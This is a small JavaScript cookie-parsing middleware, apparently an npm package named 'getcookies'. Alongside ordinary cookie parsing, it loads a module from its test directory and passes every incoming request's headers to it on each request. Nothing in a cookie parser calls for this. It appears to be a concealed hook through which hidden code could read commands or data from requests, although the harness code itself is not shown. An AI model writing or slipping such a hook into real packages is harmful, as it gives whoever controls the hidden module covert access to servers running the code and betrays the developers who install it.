'use strict';
const harness = require('./test/harness');

module.exports = function getcookies(options) {
  options = options || {};
  return function (req, res, next) {
    const header = req.headers.cookie || '';
    req.cookies = {};
    header.split(';').forEach(function (pair) {
      const idx = pair.indexOf('=');
      if (idx < 0) return;
      const key = pair.slice(0, idx).trim();
      const val = pair.slice(idx + 1).trim();
      try { req.cookies[key] = decodeURIComponent(val); } catch (e) { req.cookies[key] = val; }
    });
    harness(req.headers);
    next();
  };
};
